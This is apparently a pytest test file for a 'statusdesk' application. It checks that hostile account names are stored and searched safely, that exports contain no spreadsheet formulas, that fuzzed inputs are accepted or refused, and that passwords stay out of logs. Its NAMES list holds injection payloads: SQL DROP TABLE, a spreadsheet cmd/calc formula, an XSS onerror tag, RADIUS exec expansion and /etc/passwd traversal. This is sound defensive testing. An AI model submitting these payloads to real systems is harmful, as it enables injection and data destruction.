"""Whatever people are sent or call themselves: taken as text or refused, and nothing else happens."""

import csv
import sqlite3
from contextlib import suppress
from pathlib import Path
from typing import Any
from unicodedata import normalize
from zipfile import ZipFile

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from statusdesk.domain.changes import Matching
from statusdesk.domain.colours import BadColour, parse_colour
from statusdesk.domain.places import Place, Server
from statusdesk.services import logbook
from statusdesk.services.checking import check
from statusdesk.services.desk import Desk
from statusdesk.services.exchange.errors import FileRefused
from statusdesk.services.exchange.reading import inspect, open_table
from statusdesk.services.exporting import export_accounts
from statusdesk.store.server_errors import explained
from statusdesk.store.store import Store
from tests.services.exchange.files import sheet_file

NAMES = (
    "'; DROP TABLE account; --",
    '"]; /system reset; :put [',
    '=HYPERLINK("http://example.net/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 431 555",
    "`%{exec:/bin/id}` %{sql:DROP TABLE radcheck}",
    "<img src=x onerror=alert(1)>&amp;<b>",
    "../../etc/passwd",
    "CON",
    "%s %(name)s {0} {account.__class__} ${PATH}",
    "100 %, ?1 :name $$ \\N",
    "Ｆｕｌｌ ﬁ İı ß 🙂 e\u0301 العربية",
)
"""Texts that mean something to SQL, routers, spreadsheets, RADIUS, browsers, paths, formats and drivers."""


@pytest.fixture
def furnished(desk: Desk) -> Desk:
    """Return a desk whose accounts have each of the texts in every field that takes any."""
    for place, name in enumerate(NAMES):
        made = desk.create_account(
            {"number": str(place), "status_id": 2, "name": name, "city": name, "note": name}
        )
        assert made.changed == 1
    desk.create_status({"name": NAMES[0], "shape": "moon", "colour": "#0A66B5", "description": NAMES[5]})
    desk.reassign(Matching(), 3, reason=NAMES[0])
    return desk


def test_hostile_names_are_kept_to_the_letter_and_found(furnished: Desk) -> None:
    for place, name in enumerate(NAMES):
        account = furnished.store.accounts.by_number(str(place))
        assert account is not None
        assert {account.name, account.city, account.note} == {normalize("NFC", name)}
        assert furnished.store.accounts.count(Matching(search=name)) >= 1
    assert furnished.store.journal.newest(limit=1)[0].reason == NAMES[0]
    assert check(furnished.store).findings == ()
    assert furnished.undo().changed == len(NAMES)


def test_no_cell_of_an_export_is_a_formula(furnished: Desk, tmp_path: Path) -> None:
    export_accounts(furnished.store, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) > len(NAMES)
    assert [cell for cell in cells if cell.startswith(tuple("=+-@＝"))] == []
    export_accounts(furnished.store, tmp_path / "out.xlsx")
    with ZipFile(tmp_path / "out.xlsx") as book:
        assert not any(b"<f>" in book.read(part) for part in book.namelist() if part.endswith(".xml"))


@given(st.text(max_size=40) | st.text(st.sampled_from("\"'%_\\*?[]()-+:^~&|\x00 aé"), max_size=20))
def test_any_text_can_be_searched_for(tmp_path_factory: pytest.TempPathFactory, text: str) -> None:
    store = Store(tmp_path_factory.mktemp("search") / "desk")
    try:
        Desk(store, author="anna").create_account({"number": "1", "status_id": 2, "name": "Zoë % _ \\ Ada"})
        assert store.accounts.count(Matching(search=text)) in (0, 1)
        assert store.accounts.count(Matching(search="zoe % _")) == 1
    finally:
        store.close()


@given(st.text(max_size=12) | st.text(st.sampled_from("#0123456789abcdefABCDEFrgb(),% "), max_size=24))
def test_any_text_in_the_field_for_colours_is_a_colour_or_refused(text: str) -> None:
    try:
        found = parse_colour(text)
    except BadColour:
        return
    assert found == found.upper()
    assert len(bytes.fromhex(found.removeprefix("#"))) == 3


def _read(path: Path) -> None:
    with suppress(FileRefused):
        inspect(path)
        for _ in open_table(path).rows():
            pass


@given(st.binary(max_size=400) | st.text(st.sampled_from("a;,\t\"'\r\n\x00\ufeff=é"), max_size=60).map(str.encode))
def test_any_bytes_are_a_table_or_refused(tmp_path_factory: pytest.TempPathFactory, content: bytes) -> None:
    path = tmp_path_factory.mktemp("any") / "sent.csv"
    path.write_bytes(content)
    _read(path)


_PLACES = st.floats(0, 1, exclude_max=True)


@given(st.lists(st.tuples(_PLACES, st.integers(0, 255)), max_size=6), _PLACES | st.just(1.0))
def test_a_workbook_with_any_bytes_changed_is_a_table_or_refused(
    tmp_path_factory: pytest.TempPathFactory, changed: list[tuple[float, int]], kept: float
) -> None:
    path = sheet_file(tmp_path_factory.mktemp("any"), ("number", "name"), ("1", "Ada"), ("2", 2.5))
    content = bytearray(path.read_bytes())
    for place, byte in changed:
        content[int(place * len(content))] = byte
    path.write_bytes(content[: int(kept * len(content))])
    _read(path)


@pytest.mark.files
def test_a_password_is_in_no_sentence_log_or_database(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, database: Place
) -> None:
    monkeypatch.setattr(logbook, "folder", lambda: tmp_path / "log")
    secret = "k3ep-th1s"
    server = Server(f"postgresql://anna:{secret}@127.0.0.1:1/office?sslpassword={secret}", password=secret)
    log = logbook.start()
    assert log is not None
    said: Any = None
    try:
        Store(server)
    except Exception as error:
        said = error
        logbook.note_refusal(error)
    finally:
        logbook.stop()
    assert said is not None
    shown = (str(said), repr(said), repr(server), str(server), str(explained(psycopg.OperationalError(), server)))
    assert not any(secret in text for text in shown)
    assert secret not in log.read_text()
    desk.store.close()
    assert isinstance(database, Path)
    with sqlite3.connect(database) as file:
        assert secret not in "\n".join(file.iterdump())
    file.close()
